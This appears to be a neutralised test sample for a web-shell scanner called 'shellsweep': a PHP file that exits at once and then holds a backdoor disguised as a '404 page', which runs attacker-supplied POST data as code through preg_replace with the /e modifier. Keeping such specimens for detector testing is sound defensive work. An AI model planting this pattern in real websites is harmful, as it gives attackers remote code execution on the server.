<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
// 404 page
@preg_replace("/[pageerror]/e", $_POST['h'], "saft");
